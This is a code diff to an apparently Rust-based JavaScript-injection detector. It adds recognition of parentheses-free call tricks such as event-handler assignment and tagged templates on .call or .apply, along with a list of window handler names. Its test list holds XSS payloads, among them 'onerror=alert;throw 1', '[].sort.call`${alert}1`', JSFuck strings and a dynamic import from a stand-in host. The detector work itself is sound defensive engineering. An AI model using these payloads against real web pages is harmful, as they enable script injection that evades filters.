@@ -152,6 +152,9 @@ struct Callee {
     named: bool,
     /// It is a chain rooted at an object of the page (`document`...).
     page_object: bool,
+    /// It ends in `.call` or `.apply`: as a template's tag, it calls a
+    /// function without parentheses (`[].sort.call` and a template).
+    invoker: bool,
 }
 
 /// Functions whose call runs code, decodes it, or opens a dialog.
@@ -188,6 +191,26 @@ const PAGE_OBJECTS: &[&str] = &[
     "opener",
     "globalthis",
     "location",
+];
+
+/// The window's event handlers: assigned by a bare name
+/// (`onerror=alert;throw 1`), they call a function without parentheses.
+const PAGE_HANDLERS: &[&str] = &[
+    "onerror",
+    "onload",
+    "onunload",
+    "onbeforeunload",
+    "onhashchange",
+    "onpopstate",
+    "onpageshow",
+    "onmessage",
+    "onfocus",
+    "onblur",
+    "onresize",
+    "onscroll",
+    "onclick",
+    "onkeydown",
+    "onmouseover",
 ];
 
 /// Names whose assignment navigates, writes markup or sets a handler.
@@ -260,6 +283,7 @@ fn read(bytes: &[u8], start: usize, context: Context) -> bool {
                 callee.runs_code |= callee.page_object || is_one_of(word, RUNS_CODE);
                 callee.sink = callee.page_object || is_one_of(word, SINKS) || is_handler(word);
                 callee.member_sink = callee.sink;
+                callee.invoker = word == b"call" || word == b"apply";
                 continue;
             }
             if operand_due {
@@ -269,10 +293,12 @@ fn read(bytes: &[u8], start: usize, context: Context) -> bool {
                 callee = Callee {
                     callable: true,
                     runs_code: is_one_of(word, RUNS_CODE),
-                    member_sink: false,
                     sink: is_one_of(word, SINKS) || is_handler(word),
                     named: true,
                     page_object: is_one_of(word, PAGE_OBJECTS),
+                    // The page's own handlers, set by a bare name.
+                    member_sink: is_one_of(word, PAGE_HANDLERS),
+                    invoker: false,
                 };
                 operand_due = false;
             } else if is_one_of(word, INFIX_WORDS) {
@@ -305,7 +331,7 @@ fn read(bytes: &[u8], start: usize, context: Context) -> bool {
             }
             b'`' => {
                 // After an operand, a tagged template: a call.
-                if !operand_due && counts(callee, breakout) {
+                if !operand_due && (counts(callee, breakout) || callee.invoker) {
                     return true;
                 }
                 i = string_end(bytes, i + 1, b'`');
@@ -574,6 +600,10 @@ mod tests {
             "document.queryselector('p').textcontent='x'",
             "window.name='x'",
             "(![]+[])[+!+[]]",
+            "onerror=alert;throw 1",
+            "{onerror=eval}throw'=alert\\x281\\x29'",
+            "[].sort.call`${alert}1`",
+            "alert.apply`x`",
             "document.location='//x.example'",
             "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
             "import('//x.example/a.js')",
@@ -604,6 +634,8 @@ mod tests {
             "(+1) 555-0100",
             "see document.pdf (page 2)",
             "[!] (+) [ok]",
+            "online=yes",
+            "please call `me` (later)",
         ] {
             assert!(!is_js_injection(text), "{text}");
         }
